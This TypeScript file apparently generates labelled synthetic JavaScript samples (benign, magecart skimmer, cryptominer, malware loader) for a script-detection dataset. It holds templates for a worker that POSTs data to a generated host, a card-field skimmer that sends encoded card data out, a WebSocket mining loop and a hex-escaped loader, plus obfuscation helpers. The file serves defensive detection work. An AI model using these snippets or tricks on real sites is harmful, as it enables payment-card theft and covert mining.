import { packed } from '../conceal.ts';
import type { Random } from '../random.ts';
import { cardFields, cvvFields, expiryFields, quote } from '../words.ts';
import { expand, type Rules } from './expand.ts';
import { honestDesigns } from './honest-designs.ts';
import { honestFormDesigns } from './honest-form-designs.ts';
import { honestLoaderDesigns } from './honest-loader-designs.ts';
import { bystanderDesigns, interceptionDesigns } from './interception-designs.ts';
import { injectionDesigns, minerDesigns } from './injection-designs.ts';
import { loaderDesigns, minerLibraryDesigns, shopDesigns } from './loader-designs.ts';
import { anyHost, anyUrl, sharedRules } from './rules.ts';
import { skimmerDesigns } from './skimmer-designs.ts';
import { parses, styled } from './style.ts';

export { parses } from './style.ts';

export const designs = {
  benign: { ...honestDesigns, ...honestFormDesigns, ...honestLoaderDesigns, ...bystanderDesigns },
  magecart: { ...skimmerDesigns, ...shopDesigns, ...interceptionDesigns },
  cryptomining: { ...minerDesigns, ...minerLibraryDesigns },
  malware: { ...injectionDesigns, ...loaderDesigns },
} as const;

export interface Designed {
  /** Name of the design in the grammar. */
  design: string;
  text: string;
}

const hex = (text: string): string => Array.from(text, (c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
/** A stand-in host of a template becomes one of this script's own. */
const rehosted = (r: Random, text: string): string => text.replace(/[\w-]+(?:\.[\w-]+)*\.(?:example|invalid|test)\b/g, () => anyHost(r));
const shared = sharedRules as Record<string, (r: Random, argument: string) => string>;
const inString = (code: string): string => code.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/<\//g, '<\\/');

const rules: Rules = {
  ...sharedRules,
  secret: (r, text) => shared.secret!(r, rehosted(r, text)),
  /** What a vendor's object is called; those of miners and of anybody else alike. */
  vendor: (r) => `${r.pick(['Coin', 'Crypto', 'Live', 'Web', 'Nova', 'Deep', 'Hash', 'Site', 'Go', 'My', 'Up', 'Pro'])}${r.pick(['Hive', 'Client', 'Loot', 'Miner', 'Kit', 'Desk', 'Box', 'Stat', 'Works', 'Imp', 'Base'])}`,
  rot: (r, text) => rehosted(r, text).replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))),
  entities: (r, text) => Array.from(rehosted(r, text), (c) => `&#${c.charCodeAt(0)};`).join(''),
  numbertexts: (_r, text) => text.split(';').map((part) => quote(Array.from(part, (c) => String(c.charCodeAt(0) + 3).padStart(3, '0')).join(''))).join(','),
  veiledfields: (r) => [...r.some(cardFields, 3), r.pick(cvvFields), r.pick(expiryFields)].map((name) => quote(btoa(name))).join(','),
  change: ['‹change¦input¦blur¦focusout¦keyup›'],
  hex: (r, length) => Array.from({ length: Number(length) }, () => r.int(0, 15).toString(16)).join(''),
  codes: (r, text) => Array.from(rehosted(r, text), (c) => c.charCodeAt(0)).join(r.pick([',', ', '])),
  percent: (r, text) => hex(rehosted(r, text)).replace(/../g, '%$&'),
  hextext: (r, text) => hex(rehosted(r, text)),
  base64: (r, text) => btoa(rehosted(r, text)),
  zero: (r) => Array.from({ length: r.int(200, 1200) }, () => r.pick(['\u200b', '\u200c'])).join(''),
  abvalue: ["‹(/exp=(\\w)/.exec(document.cookie)||[0,Math.random()<.5?'a':'b'])[1]¦Math.random()<.5?'a':'b'›"],
  workersrc: (r) => quote(`onmessage=function(e){fetch('${anyUrl(r)}',{method:'POST',mode:'no-cors',body:${r.pick(['e.data', 'btoa(e.data)'])}})}`),
  minersrc: (r) =>
    quote(`onmessage=function(e){var s=new WebSocket(e.data.pool);s.onmessage=function(m){var j=JSON.parse(m.data);for(var n=0;n<${r.pick(['4294967295', '0xffffffff', 'j.limit'])};n++){var h=${r.pick(['hash', 'cn', 'work', 'Module._hash'])}(j.blob,n);if(h<j.target){s.send(JSON.stringify({id:j.id,nonce:n}));break}}};s.onopen=function(){s.send(JSON.stringify({method:'login',params:{login:e.data.wallet}}))}}`),
  tagengine: [
    "(function(d){d.resource.tags.forEach(function(t){var b=document.createElement('div');b.innerHTML=t.vtp_html;[].forEach.call(b.getElementsByTagName('script'),function(s){var n=document.createElement('script');n.text=s.text;document.body.appendChild(n)})})})(data);",
    '(function(){for(var @u=0;@u<data.resource.tags.length;@u++)document.write(data.resource.tags[@u].vtp_html)})();',
    '',
  ],
  tagskim: (r) => inString(expand(r, rules, "document.addEventListener('«change»',function(){var @d=(«cardreader»)();if(@d.length>«int:20-90»){«sneak:«encoded:@d»»}},true);")),
  taghonest: (r) =>
    inString(expand(r, rules, r.pick([
      "(function(){var @a=document.createElement('script');@a.async=1;@a.src='«url»';document.head.appendChild(@a)})();",
      "var @d=JSON.stringify({o:document.querySelector('.order-id').textContent,v:window.total});«send:@d»",
      "window.«word»=window.«word»||[];«word».push(['track',location.pathname]);",
      "document.addEventListener('«change»',function(e){window.dataLayer.push({event:'field',name:e.target.name})},true);",
    ]))),
};

// The classic array of hex-escaped words, with a loader or an honest start-up behind it.
function hexArray(r: Random, harmful: boolean): string {
  const words = harmful
    ? ['script', 'createElement', 'src', anyUrl(r), 'head', 'appendChild']
    : ['div', 'createElement', 'className', r.pick(['tooltip', 'ready', 'loaded']), 'body', 'appendChild'];
  const name = `_0x${r.int(0x1000, 0xffff).toString(16)}`;
  return `var ${name}=[${words.map((word) => `"${hex(word).replace(/../g, '\\x$&')}"`).join(',')}];var e=document[${name}[1]](${name}[0]);e[${name}[2]]=${name}[3];document[${name}[4]][${name}[5]](e);`;
}

/**
 * A script of one of the grammar's designs for a label, in one of many styles. Asks again, with the same `r`, in the rare
 * case that what came out is no JavaScript.
 */
export function designed(r: Random, label: keyof typeof designs): Designed {
  const names = Object.keys(designs[label]);
  for (let attempt = 0; attempt < 20; attempt++) {
    const design = r.pick(names);
    const drawn = write(r, label, design);
    if (!parses(drawn)) continue;
    const code = design === 'tiny' ? drawn : styled(r, drawn);
    // Honest code is packed too, though less often.
    const text = r.chance(label === 'benign' ? 0.05 : 0.08) ? packed(r, code) : code;
    if (parses(text)) return { design, text };
  }
  throw new RangeError(`The designs of ${label} give no JavaScript`);
}

/** One template of a design as it is written, before style and packing; the tests try each of them. */
export const written = (r: Random, template: string): string => expand(r, rules, template);

function write(r: Random, label: keyof typeof designs, design: string): string {
  if (design === 'classic-loader' && r.chance(0.15)) return hexArray(r, true);
  if (design === 'page-data' && r.chance(0.1)) return hexArray(r, false);
  const template = r.pick((designs[label])[design]!);
  const filler = design === 'tiny' ? '' : '«filler»';
  return expand(r, rules, `${filler}${template}${r.chance(0.3) && filler ? '\n«filler»' : ''}`);
}
